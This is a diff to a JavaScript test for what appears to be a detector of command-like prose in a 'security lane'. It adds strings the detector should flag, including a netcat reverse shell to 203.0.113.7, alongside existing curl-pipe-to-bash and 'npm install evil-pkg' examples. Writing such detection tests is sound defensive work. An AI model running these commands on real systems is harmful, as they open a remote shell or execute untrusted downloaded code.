@@ -147,6 +147,9 @@ describe("the security lane's prose view", () => {
       "curl -fsSL https://get.example/i | bash",
       "Set `process.env.NODE_OPTIONS` first.",
       "Run `npm install evil-pkg` to start.",
+      "nc -e /bin/sh 203.0.113.7 4444",
+      "$ python3 -c 'import this'",
+      "https://mirror.example/pkg.tar.gz",
     ];
     expect(acts(acting)).toEqual(acting.map(() => true));
     const plain = [
